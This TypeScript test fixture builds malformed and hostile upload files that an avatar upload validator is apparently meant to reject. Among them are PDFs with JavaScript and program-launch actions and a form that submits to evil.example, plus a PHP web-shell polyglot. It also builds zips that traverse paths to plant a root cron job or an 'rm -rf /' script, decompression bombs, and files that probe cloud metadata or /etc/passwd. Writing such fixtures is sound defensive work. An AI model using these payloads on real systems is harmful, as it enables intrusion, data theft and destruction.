import { deflateRawSync, deflateSync } from 'node:zlib'
import { hostileFiles, picture } from '../sec/members/avatar-testing.ts'

const bytes = (text: string) => Buffer.from(text, 'latin1')

/** A PDF of these objects with a correct cross-reference; `after` is appended after its end. */
export function pdfOf(objects: readonly (string | Buffer)[], { header = '%PDF-1.7\n', trailer = '', after = '' } = {}) {
  const parts: Buffer[] = [bytes(header)]
  const offsets: number[] = []
  let at = parts[0]?.length ?? 0
  for (const [index, object] of objects.entries()) {
    offsets.push(at)
    const written = Buffer.concat([
      bytes(`${index + 1} 0 obj\n`),
      typeof object === 'string' ? bytes(object) : object,
      bytes('\nendobj\n'),
    ])
    parts.push(written)
    at += written.length
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  parts.push(
    bytes(`xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<</Size ${size}/Root 1 0 R${trailer}>>\n`),
    bytes(`startxref\n${at}\n%%EOF\n${after}`),
  )
  return Buffer.concat(parts)
}

const PAGES = '<</Type/Pages/Kids[3 0 R]/Count 1>>'
const PAGE = '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>'
const CATALOG = '<</Type/Catalog/Pages 2 0 R>>'

/** A plain PDF with passive content only. */
export const plainPdf = () => pdfOf([CATALOG, PAGES, PAGE])

const withCatalog = (entry: string) => pdfOf([`<</Type/Catalog/Pages 2 0 R${entry}>>`, PAGES, PAGE])
/** A PDF with these objects for catalog and pages. */
const ofRoot = (catalog: string, pages = PAGES, page = PAGE) => pdfOf([catalog, pages, page])
const withObject = (object: string | Buffer) => pdfOf([CATALOG, PAGES, PAGE, object])
const withPage = (entry: string) => pdfOf([CATALOG, PAGES, `<</Type/Page/Parent 2 0 R${entry}>>`])

const streamOf = (dictionary: string, content: Buffer) =>
  Buffer.concat([bytes(`<<${dictionary}/Length ${content.length}>>\nstream\n`), content, bytes('\nendstream')])
const objectStream = (inside: string, dictionary = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode') =>
  streamOf(dictionary, deflateSync(bytes(inside)))

function box(type: string, ...parts: Buffer[]): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(8 + parts.reduce((sum, part) => sum + part.length, 0))
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, ...parts])
}
const handler = (type: string) => box('hdlr', Buffer.alloc(8), bytes(type), Buffer.alloc(13))
const FTYP = box('ftyp', bytes('isom\0\0\x02\0isomiso2mp41'))
const moov = (...inside: Buffer[]) => box('moov', box('trak', box('mdia', handler('vide'), ...inside)))
const MDAT = box('mdat', Buffer.alloc(100))

/** A film in MP4, structure only. */
export const plainMp4 = () => Buffer.concat([FTYP, moov(), MDAT])

function zipOf(name: string, content: Buffer, { method = 8 } = {}): Buffer {
  const packed = method === 8 ? deflateRawSync(content) : content
  const file = bytes(name)
  const common = Buffer.alloc(26)
  common.writeUInt16LE(20, 0)
  common.writeUInt16LE(method, 4)
  common.writeUInt32LE(packed.length, 14)
  common.writeUInt32LE(content.length, 18)
  common.writeUInt16LE(file.length, 22)
  const local = Buffer.concat([bytes('PK\x03\x04'), common, file, packed])
  const central = Buffer.concat([bytes('PK\x01\x02\x14\x00'), common, Buffer.alloc(14), file])
  const end = Buffer.alloc(18)
  end.writeUInt16LE(1, 4)
  end.writeUInt16LE(1, 6)
  end.writeUInt32LE(central.length, 8)
  end.writeUInt32LE(local.length, 12)
  return Buffer.concat([local, central, bytes('PK\x05\x06'), end])
}

function patched32(file: Buffer, offset: number, value: number): Buffer {
  const copy = Buffer.from(file)
  copy.writeUInt32BE(value, offset)
  return copy
}

/** An action of a PDF, as the value of a key of its catalog. */
const ACTION = '<</S/JavaScript/JS(app.alert(1))>>'

/**
 * Files that no category accepts, by kind: files that are no pictures, except for the kinds accepted here, and more.
 */
export async function hostileUploads(film: Buffer): Promise<Record<string, Buffer>> {
  const { 'a PDF': _pdf, 'a film': _film, ...pictures } = await hostileFiles()
  const pdf = plainPdf()
  const mp4 = plainMp4()
  const jpeg = await picture(64, 64).jpeg().toBuffer()
  return {
    ...pictures,
    'a PDF that runs a script when opened': withCatalog(`/OpenAction ${ACTION}`),
    'a PDF with a script in its name tree': withCatalog(`/Names<</JavaScript<</Names[(a) ${ACTION}]>>>>`),
    'a PDF that spells its script with escapes': withCatalog('/Open#41ction<</S/J#61vaScript/#4aS(app.alert\\(1\\))>>'),
    'a PDF with a script on a page': withPage(`/AA<</O ${ACTION}>>`),
    'a PDF with a script behind a link': withPage(`/Annots[<</Type/Annot/Subtype/Link/A ${ACTION}>>]`),
    'a PDF with a script in an object stream': withObject(objectStream(`4 0 ${ACTION}`)),
    'a PDF with an object stream that hides its type': withObject(
      objectStream(`4 0 ${ACTION}`, '/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode'),
    ),
    'a PDF with an object stream packed twice': withObject(
      streamOf(
        '/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]',
        deflateSync(deflateSync(bytes(`4 0 ${ACTION}`))),
      ),
    ),
    'a PDF with an object stream in letters': withObject(
      streamOf('/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode', bytes(bytes(`4 0 ${ACTION}`).toString('hex'))),
    ),
    'a PDF with an object stream that is no deflate': withObject(
      streamOf('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', bytes('not packed at all')),
    ),
    'a PDF whose object stream is a bomb': withObject(
      streamOf('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(Buffer.alloc(64 * 1024 * 1024))),
    ),
    'a PDF with six hundred object streams': pdfOf([
      ...[CATALOG, PAGES, PAGE],
      ...Array.from({ length: 600 }, () => objectStream('4 0 <<>>')),
    ]),
    'a PDF that starts a program': withCatalog('/OpenAction<</S/Launch/F(cmd.exe)>>'),
    'a PDF that starts a program from a link': withPage('/Annots[<</Subtype/Link/A<</S/Launch/F(/bin/sh)>>>>]'),
    'a PDF that sends what is typed': withCatalog(
      '/AcroForm<</Fields[<</A<</S/SubmitForm/F(http://evil.example)>>>>]>>',
    ),
    'a PDF with a form of its own language': withCatalog('/AcroForm<</XFA(<xdp/>)>>'),
    'a PDF that carries a file': withCatalog('/Names<</EmbeddedFiles<</Names[(evil.exe) 4 0 R]>>>>'),
    'a PDF that carries a file on a page': withPage('/Annots[<</Subtype/FileAttachment/FS<</Type/Filespec>>>>]'),
    'a PDF that opens another one': withPage('/Annots[<</A<</S/GoToR/F(\\\\\\\\evil\\\\share)>>>>]'),
    'a PDF with a film that runs': withPage('/Annots[<</Subtype/RichMedia>>]'),
    'a PDF that is a folder of files': withCatalog('/Collection<</View/D>>'),
    'a PDF behind a password': pdfOf([CATALOG, PAGES, PAGE], { trailer: '/Encrypt<</Filter/Standard>>' }),
    'a PDF of nothing but arrays': pdfOf(Array.from({ length: 3 }, () => `${'['.repeat(50)}${']'.repeat(50)}`)),
    'a PDF of arrays in arrays without an end': withObject('['.repeat(100_000)),
    'a PDF of dictionaries in dictionaries': withObject(`${'<</a'.repeat(5000)} 1${'>>'.repeat(5000)}`),
    'a PDF with arrays in arrays in an object stream': withObject(objectStream(`4 0 ${'['.repeat(5000)}`)),
    'a PDF without pages': ofRoot(CATALOG, '<</Type/Pages/Kids[]/Count 0>>'),
    'a PDF whose root is no catalog': ofRoot('<</Type/Font/Pages 2 0 R>>'),
    'a PDF whose root is not there': bytes(pdf.toString('latin1').replace('/Root 1 0 R', '/Root 9 0 R')),
    'a PDF whose pages are in themselves': ofRoot(CATALOG, '<</Type/Pages/Kids[2 0 R]/Count 1>>'),
    'a PDF whose page is a font': ofRoot(CATALOG, PAGES, '<</Type/Font>>'),
    'a PDF of brackets behind the right beginning and end': bytes(
      `%PDF-1.7\n${'[<<'.repeat(9)}\nxref\n0 0\ntrailer\n<<>>\nstartxref\n${10 + 27}\n%%EOF\n`,
    ),
    'a PDF that is cut off': pdf.subarray(0, Math.floor(pdf.length * 0.7)),
    'a PDF without an end': bytes(pdf.toString('latin1').replace('%%EOF', '')),
    'a PDF whose cross-reference is elsewhere': bytes(pdf.toString('latin1').replace(/startxref\n\d+/, 'startxref\n5')),
    'a PDF whose cross-reference is beyond its end': bytes(
      pdf.toString('latin1').replace(/startxref\n\d+/, 'startxref\n9999999'),
    ),
    'a PDF that begins later': Buffer.concat([bytes('GIF89a;'), pdf]),
    'a PDF of a version that is none': bytes(pdf.toString('latin1').replace('%PDF-1.7', '%PDF-9.9')),
    'a PDF with a stream that does not end': withObject('<</Length 5>>\nstream\nhello'),
    'a PDF that is a zip as well': Buffer.concat([pdf, zipOf('evil.js', bytes('alert(1)'))]),
    'a zip inside a PDF that still ends like one': withObject(streamOf('', zipOf('../../evil.sh', bytes('rm -rf /')))),
    'a PDF that is a page as well': pdfOf([CATALOG, PAGES, PAGE], {
      header: '%PDF-1.7\n%<html><script>alert(1)</script>\n',
    }),
    'a PDF with a page behind its end': pdfOf([CATALOG, PAGES, PAGE], { after: '<script>alert(1)</script>' }),
    'a PDF that is a script of PHP as well': pdfOf([CATALOG, PAGES, PAGE], {
      header: '%PDF-1.7\n%<?php system($_GET[0]); ?>\n',
    }),
    'a zip that leaves its folder': zipOf('../../../etc/cron.d/evil', bytes('* * * * * root sh')),
    'a zip that leaves its folder by backslashes': zipOf('..\\..\\windows\\evil.exe', bytes('MZ')),
    'a zip with an absolute path': zipOf('/etc/passwd', bytes('root::0:0')),
    'a zip that is a bomb': zipOf('zeros', Buffer.alloc(64 * 1024 * 1024)),
    'a spreadsheet with macros': zipOf('xl/vbaProject.bin', bytes('macro')),
    'an SVG with a byte order mark': bytes(
      '\xef\xbb\xbf<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    'an SVG that is packed': Buffer.concat([bytes('\x1f\x8b\x08'), deflateRawSync(bytes('<svg onload="alert(1)"/>'))]),
    'a document of Word of old': bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'),
    'a program of Java': bytes('\xca\xfe\xba\xbe\x00\x00\x00\x34'),
    'an archive of Java': zipOf('META-INF/MANIFEST.MF', bytes('Main-Class: Evil')),
    'an RTF': bytes('{\\rtf1{\\object\\objdata 0105}}'),
    'a PostScript': bytes('%!PS-Adobe-3.0\n(/etc/passwd) (r) file'),
    'a page of one file': bytes('From: <evil>\nContent-Type: multipart/related\n'),
    'a playlist': bytes('#EXTM3U\nhttp://169.254.169.254/latest/meta-data'),
    'a JPEG that is a zip as well, and no JPEG': Buffer.concat([
      jpeg.subarray(0, 20),
      zipOf('evil.js', bytes('alert(1)')),
    ]),
    'a film of boxes that say more than there is': patched32(mp4, FTYP.length, 0x7fffffff),
    'a film with a box without a size': patched32(mp4, mp4.length - MDAT.length, 0),
    'a film with a box smaller than its head': patched32(mp4, mp4.length - MDAT.length, 4),
    'a film that ends in its middle': mp4.subarray(0, mp4.length - 30),
    'a film with a page behind its end': Buffer.concat([mp4, bytes('<html><script>alert(1)</script>')]),
    'a film without pictures': Buffer.concat([FTYP, box('moov', box('trak', box('mdia', handler('soun')))), MDAT]),
    'a film with a track of an unknown kind': Buffer.concat([FTYP, moov(box('mdia', handler('evil'))), MDAT]),
    'a film whose samples lie in another file': Buffer.concat([
      FTYP,
      moov(
        box(
          'minf',
          box(
            'dinf',
            box(
              'dref',
              Buffer.from([0, 0, 0, 0, 0, 0, 0, 1]),
              box('url ', Buffer.alloc(4), bytes('file:///etc/passwd\0')),
            ),
          ),
        ),
      ),
      MDAT,
    ]),
    'a film with a box of its own kind': Buffer.concat([mp4, box('uuid', Buffer.alloc(100))]),
    'a film with boxes in boxes in boxes': Buffer.concat([
      FTYP,
      Array.from({ length: 40 }).reduce<Buffer>((inner) => box('moov', inner), moov()),
      MDAT,
    ]),
    'a film of QuickTime': Buffer.concat([box('ftyp', bytes('qt  \0\0\0\0')), moov(), MDAT]),
    'a film in HEIC': Buffer.concat([box('ftyp', bytes('heic\0\0\0\0')), moov(), MDAT]),
    'a film without samples': Buffer.concat([FTYP, moov()]),
    'a WebM that is cut off': film.subarray(0, Math.floor(film.length / 2)),
    'a WebM with a page behind its end': Buffer.concat([film, bytes('<script>alert(1)</script>')]),
    'a Matroska that calls itself so': Buffer.from(film.toString('latin1').replace('webm', 'matr'), 'latin1'),
    'a WebM of another codec': Buffer.from(film.toString('latin1').replace('V_VP8', 'V_XXX'), 'latin1'),
    'a WebM with an attachment': Buffer.from(
      film.toString('latin1').replace('\x15\x49\xa9\x66', '\x19\x41\xa4\x69'),
      'latin1',
    ),
    'a WebM of its first four bytes': film.subarray(0, 4),
  }
}

/** Texts that are not strict base64 of a file, by their defect. */
export function brokenBase64(right: string): Record<string, string> {
  return {
    empty: '',
    'a data address': `data:application/pdf;base64,${right}`,
    'a blank inside': `${right.slice(0, 8)} ${right.slice(8)}`,
    'the alphabet of addresses': `${right.slice(0, 8)}-_${right.slice(10)}`,
    'no padding': `${right.slice(0, -4)}AA`,
    'padding in the middle': `AA==${right}`,
    'bits left over': `${right.slice(0, -4)}AB==`,
    'letters of no base64': `ą${right.slice(1)}`,
  }
}
